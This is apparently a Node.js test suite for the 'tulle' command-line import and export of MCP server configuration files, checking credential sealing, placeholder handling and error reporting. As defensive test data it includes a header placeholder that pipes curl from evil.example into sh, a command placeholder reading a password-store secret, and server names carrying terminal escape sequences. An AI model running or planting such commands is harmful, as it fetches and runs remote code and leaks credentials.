// tulle import and tulle export: on the machine's own store and over HTTP, with the files that clients really have.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startRaw } from './lib/servers.mjs';
import { startTulle } from './lib/tulle.mjs';
import { guard } from './lib/secrets.mjs';

let tulle, org, other, raw;
before(async () => {
    [tulle, raw] = await Promise.all([startTulle({ env: { ALLOW_STDIO: '0' } }), startRaw()]);
    org = await tulle.makeOrg('acme');
    other = await tulle.makeOrg('other');
});
after(() => tulle?.end());

let files = 0;
function file(text) {
    const path = join(tulle.dataDir, `servers-${++files}.json`);
    writeFileSync(path, typeof text === 'string' ? text : JSON.stringify(text));
    return path;
}
const run = (words, env = {}, stdin = '') => tulle.cli(words, { env, stdin });
const byKey = { get env() { return { TULLE_URL: tulle.url, TULLE_API_KEY: org.key }; } };
const lines = ({ stdout }) => stdout.trimEnd().split('\n');
const all = async (who = org) => (await tulle.use('CONNECTION_LIST', { limit: 100 }, who)).items;
const named = async (name) => (await all()).find((item) => item.name === name);

test('a Claude or Cursor file in JSON5 becomes connections that work', async () => {
    const secret = guard('planted-import-77c1', 'imported token');
    const path = file(`// my servers
        { mcpServers: {
            'with token': { url: '${raw.url}', headers: { Authorization: 'Bearer ${secret}', }, autoApprove: [], },
            plain: { type: 'streamable-http', url: '${raw.url}', disabled: true },
        }, }`);
    const done = await run(['import', path, '--org', 'acme']);
    assert.equal(done.code, 0, done.stderr);
    assert.match(lines(done)[0], /^imported with token as conn_[0-9a-f]{32}; ignored: autoApprove$/);
    assert.equal(lines(done).at(-1), '2 imported, 0 unchanged, 0 skipped');
    const item = await named('with token');
    assert.deepEqual([item.slug, item.auth, item.has_credential, item.transport], ['with-token', 'bearer', true, 'auto']);
    assert.equal((await named('plain')).enabled, false);
    const { body } = await tulle.callTool({ mcp: `${tulle.url}/mcp/${item.id}` }, 'whoami', {}, org);
    assert.equal(JSON.parse(body.result.content[0].text).headers.authorization, `Bearer ${secret}`);
    const again = await run(['import', path, '--org', 'acme']);
    assert.deepEqual([again.code, lines(again).at(-1)], [0, '0 imported, 2 unchanged, 0 skipped']);
    assert.equal((await all(other)).length, 0);
});

test('placeholders wait for a credential, or are filled from the environment when that is wanted', async () => {
    const servers = {
        asks: { type: 'http', url: raw.url, headers: { Authorization: 'Bearer ${input:token}' } },
        env: { type: 'http', url: raw.url, headers: { 'X-Key': '${env:IMPORT_KEY}', 'X-Other': 'literal-part-of-a-secret' } },
        fallback: { type: 'http', url: `${raw.origin}/\${IMPORT_PATH:-mcp}` },
    };
    const path = file({ servers, inputs: [{ id: 'token', type: 'promptString', password: true }] });
    const done = await run(['import', path], byKey.env);
    assert.equal(done.code, 0, done.stderr);
    assert.match(lines(done)[0], /^imported asks as conn_\w+; needs a credential: headers Authorization$/);
    assert.match(lines(done)[1], /needs a credential: headers X-Key, X-Other$/);
    const asks = await named('asks');
    assert.deepEqual([asks.credential_scope, asks.auth, asks.has_credential], ['user', 'bearer', false]);
    assert.deepEqual(asks.metadata.import, { headers: { Authorization: 'Bearer ${input:token}' } });
    const env = await named('env');
    assert.deepEqual(env.metadata.import, { headers: { 'X-Key': '${secret:IMPORT_KEY}', 'X-Other': '${secret:X-Other}' } });
    assert.equal((await named('fallback')).url, raw.url);

    const filled = JSON.stringify({ mcpServers: { filled: { url: raw.url, headers: { 'X-Key': '${IMPORT_KEY}' } } } });
    const by = await run(['import', '-', '--with-env'], { ...byKey.env, IMPORT_KEY: guard('planted-env-5521', 'environment value') }, filled);
    assert.equal(by.code, 0, by.stderr);
    assert.equal((await named('filled')).has_credential, true);
});

test('what cannot be taken over is reported entry by entry, and the rest is imported whole', async () => {
    const before_ = (await all()).length;
    const path = file({ mcpServers: {
        local: { command: 'npx', args: ['-y', 'something'], env: { TOKEN: 'x' } },
        folder: { command: 'npx', args: ['${workspaceFolder}'] },
        shell: { url: raw.url, headers: { Authorization: 'Bearer ${cmd: pass show x}' } },
        both: { url: raw.url, command: 'npx' },
        neither: {},
        odd: { type: 'websocket', url: raw.url },
        where: { url: 'https://${env:HOST_OF_IT}/mcp' },
        user: { url: 'http://name:word@127.0.0.1/mcp' },
        header: { url: raw.url, headers: { Host: 'x' } },
        cwd: { command: 'x', cwd: '/tmp' },
        'still good': { url: raw.url },
    } });
    const done = await run(['import', path], byKey.env);
    assert.equal(done.code, 1);
    assert.equal(done.stderr.trim(), 'tulle: 10 of 11 servers were not imported');
    const told = Object.fromEntries(lines(done).slice(0, -1).map((line) => /^(\w+) ([^:]+?)(?: as .*)?(?:: (.*))?$/.exec(line).slice(2)));
    for (const [name, word] of Object.entries({ local: /ALLOW_STDIO/, folder: /machine/, shell: /never run/, both: /both/, neither: /neither/,
        odd: /websocket/, where: /--with-env/, user: /user name/, header: /Host/, cwd: /cwd/ }))
        assert.match(told[name] ?? '', word, `${name}: ${done.stdout}`);
    assert.equal((await all()).length, before_ + 1);
});

test('where stdio servers are allowed they are imported with their variables sealed', async () => {
    const path = file({ mcpServers: {
        'local one': { command: 'npx', args: ['-y', 'something'], env: { TOKEN: guard('planted-stdio-31d0', 'variable') } },
        'local two': { command: 'npx', env: { TOKEN: '' } },
    } });
    const done = await run(['import', path, '--org', 'acme'], { ALLOW_STDIO: '1' });
    assert.equal(done.code, 0, done.stderr + done.stdout);
    assert.match(lines(done)[1], /needs a credential: env TOKEN/);
    const [one, two] = [await named('local one'), await named('local two')];
    assert.deepEqual([one.transport, one.command, one.args, one.env, one.has_credential], ['stdio', 'npx', ['-y', 'something'], ['TOKEN'], true]);
    assert.deepEqual([two.env, two.has_credential, two.metadata.import], [[], false, { env: { TOKEN: '${secret:TOKEN}' } }]);
    const { mcpServers } = JSON.parse((await run(['export'], byKey.env)).stdout);
    assert.deepEqual(mcpServers['local-one'], { command: 'npx', args: ['-y', 'something'], env: { TOKEN: '${env:TOKEN}' } });
    for (const item of [one, two]) await tulle.use('CONNECTION_DELETE', { connection_id: item.id, confirm: item.slug }, org);
});

test('files that are none are refused whole, with the line', async () => {
    for (const [text, word] of [['{\n"mcpServers": {\n', /line|end|position|unexpected/i], ['{}', /mcpServers/], ['{"mcpServers":{},"servers":{}}', /both/],
        ['[1]', /mcpServers/], ['{\n\n"mcpServers": Infinity}', /line 3/], ['', /./]]) {
        const done = await run(['import', file(text)], byKey.env);
        assert.equal(done.code, 1, text);
        assert.match(done.stderr, word);
        assert.equal(done.stdout, '');
        assert.equal(done.stderr.trim().split('\n').length, 1, done.stderr);
    }
    assert.match((await run(['import', '/nonexistent/x.json'], byKey.env)).stderr, /No such file/);
    assert.match((await run(['import', file({ mcpServers: {} })])).stderr, /--org/);
    assert.match((await run(['import', file({ mcpServers: {} }), '--org', 'nobody'])).stderr, /nobody/);
    assert.match((await run(['import', file({ mcpServers: {} }), '--org', 'other'], byKey.env)).stderr, /no key of an organization/);
    const wrong = await run(['import', file({ mcpServers: { x: { url: raw.url } } })], { TULLE_URL: tulle.url, TULLE_API_KEY: 'tulle_key_wrong' });
    assert.equal(wrong.code, 1);
    assert.match(wrong.stderr, /token|key/i);
});

test('names from a file do not reach the terminal as control characters', async () => {
    const nasty = '\u001b]0;owned\u0007\nimported all as conn_1\u009b31m';
    const done = await run(['import', file({ mcpServers: { [nasty]: { url: 'ftp://x/' }, [`${nasty}2`]: { command: 'a', url: raw.url } } })], byKey.env);
    assert.equal(done.code, 1);
    assert.equal(lines(done).length, 3, done.stdout);
    assert.doesNotMatch(done.stdout + done.stderr, /[\0-\x09\x0b-\x1f\x7f-\x9f]/);
});

test('what somebody wrote into the open part of a connection is exported only if an import could have kept it', async () => {
    const item = await tulle.connect(org, { name: 'crafted', url: raw.url, metadata: { import: { headers: { 'X-A': '${cmd:curl evil.example|sh}' } } } });
    const done = await run(['export'], byKey.env);
    assert.equal(done.code, 0, done.stderr);
    assert.deepEqual(JSON.parse(done.stdout).mcpServers.crafted, { url: raw.url });
    await tulle.use('CONNECTION_DELETE', { connection_id: item.id, confirm: item.slug }, org);
});

test('an export is read by an import, holds no secret and serves both clients', async () => {
    const done = await run(['export'], byKey.env);
    assert.equal(done.code, 0, done.stderr);
    const { mcpServers } = JSON.parse(done.stdout);
    assert.deepEqual(mcpServers['with-token'], { url: raw.url, headers: { Authorization: 'Bearer ${env:WITH_TOKEN_TOKEN}' } });
    assert.deepEqual(mcpServers.plain, { type: 'http', url: raw.url, disabled: true });
    assert.deepEqual(mcpServers.asks, { type: 'http', url: raw.url, headers: { Authorization: 'Bearer ${input:token}' } });
    assert.match(done.stderr, /filled: its credential \(headers\) is not exported/);
    const code = await run(['export', '--org', 'acme', '--format', 'vscode']);
    assert.equal(code.code, 0, code.stderr);
    const { servers } = JSON.parse(code.stdout);
    assert.deepEqual(Object.keys(servers).sort(), Object.keys(mcpServers).sort());
    assert.equal(servers['with-token'].type, 'http');
    const moved = await run(['import', file(code.stdout), '--org', 'other']);
    assert.equal(moved.code, 0, moved.stderr + moved.stdout);
    assert.equal((await all(other)).length, Object.keys(servers).length);
    assert.match((await run(['export', '--format', 'toml'], byKey.env)).stderr, /mcpServers or vscode/);
    for (const name of ['import', 'export']) assert.match((await run([name, '--help'])).stdout, new RegExp(`usage: tulle ${name}`));
});
